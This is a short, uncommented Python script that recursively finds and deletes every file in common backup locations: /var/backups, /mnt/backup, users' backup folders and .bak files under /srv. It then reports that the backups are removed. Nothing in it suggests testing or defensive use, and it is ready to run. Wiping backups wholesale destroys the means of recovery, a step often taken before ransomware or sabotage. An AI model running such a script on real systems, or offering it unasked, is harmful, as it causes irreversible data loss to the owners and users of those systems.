import glob
import os

patterns = ["/var/backups/**/*", "/mnt/backup/**/*", "/home/*/backup*/**/*", "/srv/**/*.bak"]
for pat in patterns:
    for f in glob.glob(pat, recursive=True):
        if os.path.isfile(f):
            os.remove(f)
print("backups removed")
